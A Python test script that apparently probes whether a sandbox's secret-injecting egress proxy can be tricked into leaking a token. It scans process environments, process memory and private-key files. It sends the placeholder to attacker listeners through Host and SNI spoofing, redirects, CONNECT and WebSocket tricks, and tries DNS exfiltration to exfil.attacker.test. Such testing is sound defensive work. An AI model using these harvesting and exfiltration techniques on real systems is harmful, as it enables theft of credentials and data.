# Tries every way out for the secret TOKEN, whose placeholder is in the
# environment: the secret is for https://host.sandbox.internal:SEC and
# http://host.sandbox.internal:SECH only; ATT and ATTS are an attacker's
# listeners (plain and TLS) the run may reach. argv: SECH SEC ATT ATTS.
import os, re, socket, ssl, sys, urllib.request

sech, sec, att, atts = (int(a) for a in sys.argv[1:5])
H = "host.sandbox.internal"
ph = os.environ["TOKEN"]
print("placeholder", ph.startswith("SANDBOX_RUN_SECRET_TOKEN_"))

def raw(port, data, tls=False, sni=H):
    try:
        s = socket.create_connection((H, port), timeout=15)
        if tls:
            s = ssl.create_default_context().wrap_socket(s, server_hostname=sni)
        s.sendall(data)
        s.settimeout(5)
        try:
            s.recv(4096)
        except Exception:
            pass
        s.close()
        return "sent"
    except Exception as e:
        return "failed " + type(e).__name__

# 1. What the sandbox holds: the environment, every process's, files.
seen = open("/proc/self/environ", "rb").read()
for p in os.listdir("/proc"):
    if p.isdigit():
        try:
            seen += open("/proc/%s/environ" % p, "rb").read() + open("/proc/%s/cmdline" % p, "rb").read()
        except OSError:
            pass
keys = 0
marker = ("PRIVATE" + " KEY-----").encode()  # not in this file as one string
for top in ("/etc", "/work", "/tmp", "/home", "/root", "/run", "/var", "/dev/shm"):
    for root, dirs, files in os.walk(top):
        for f in files:
            try:
                data = open(os.path.join(root, f), "rb").read(1 << 20)
            except Exception:
                continue
            seen += data
            if marker in data:
                keys += 1
                print("key-like file", os.path.join(root, f))
print("private keys readable", keys)
print("the secret's shape in reach", bool(re.search(rb"redsecret[0-9a-f]{32}", seen)))

# 2. The placeholder sent where the secret is not for: the attacker's port
# with the secret's host in the Host header, as an absolute URI, over TLS
# with the secret's name as SNI, as HTTP/2 prior knowledge, in a body.
req = "GET /spoof?k=%s HTTP/1.1\r\nHost: %s:%d\r\nAuthorization: Bearer %s\r\n\r\n" % (ph, H, sech, ph)
print("host spoof", raw(att, req.encode()))
req = "GET http://%s:%d/absolute?k=%s HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (H, sech, ph, H, sech)
print("absolute uri", raw(att, req.encode()))
req = "GET /sni?k=%s HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (ph, H, sec)
print("sni spoof", raw(atts, req.encode(), tls=True))
print("h2 preface", raw(att, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + ph.encode()))
body = ("k=" + ph).encode()
req = "POST /body HTTP/1.1\r\nHost: %s:%d\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n" % (H, att, len(body))
print("body", raw(att, req.encode() + body))

# 3. A redirect from the secret's host to the attacker's, followed with
# the same headers; a CONNECT through the egress.
try:
    r = urllib.request.urlopen(urllib.request.Request("http://%s:%d/redirect?k=%s" % (H, sech, ph), headers={"Authorization": "Bearer " + ph}), timeout=15)
    print("redirect followed", r.status)
except Exception as e:
    print("redirect failed", type(e).__name__)
print("connect", raw(sech, ("CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\nAuthorization: Bearer %s\r\n\r\n" % (H, att, H, att, ph)).encode()))

# 4. A WebSocket upgrade to the secret's host, the placeholder in frames
# after it; then the legitimate request (the secret in play).
print("upgrade", raw(sech, ("GET /ws HTTP/1.1\r\nHost: %s:%d\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n" % (H, sech)).encode() + b"frame " + ph.encode()))
try:
    r = urllib.request.urlopen(urllib.request.Request("https://%s:%d/legit?k=%s" % (H, sec, ph), headers={"Authorization": "Bearer " + ph}), timeout=15)
    print("legit", r.status, r.read().decode())
except Exception as e:
    print("legit failed", type(e).__name__, e)

# 5. Memory: every process's it can read, with the secret in play just
# now (the legitimate request above), a MiB at a time.
sys.stdout.flush()
mem, found = 0, False
for p in os.listdir("/proc"):
    if not p.isdigit():
        continue
    try:
        maps = open("/proc/%s/maps" % p).read().splitlines()
        f = open("/proc/%s/mem" % p, "rb", 0)
    except OSError:
        continue
    for line in maps:
        fields = line.split()
        lo, hi = (int(x, 16) for x in fields[0].split("-"))
        if "r" not in fields[1] or hi - lo > 256 << 20:
            continue
        tail = b""  # a region's last bytes, for a match across two reads
        for at in range(lo, hi, 1 << 20):
            try:
                f.seek(at)
                data = f.read(min(1 << 20, hi - at))
            except Exception:
                break
            if not data:
                break
            mem += len(data)
            found = found or bool(re.search(rb"redsecret[0-9a-f]{32}", tail + data))
            tail = data[-64:]
    f.close()
print("memory read", mem > 0)
print("the secret's shape in memory", found)

# 6. DNS: the placeholder as a name's labels, to the sandbox's resolver
# and to another server (both answered by the egress).
def query(name, server):
    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\x00\x00\x01\x00\x01"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    try:
        s.sendto(q, (server, 53))
        s.recv(512)
        return "answered"
    except Exception as e:
        return "failed " + type(e).__name__
    finally:
        s.close()
resolver = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
label = ph.lower().replace("_", "-")[:63]
print("dns", query(label + ".exfil.attacker.test", resolver), query(label + "." + H, "192.0.2.53"))
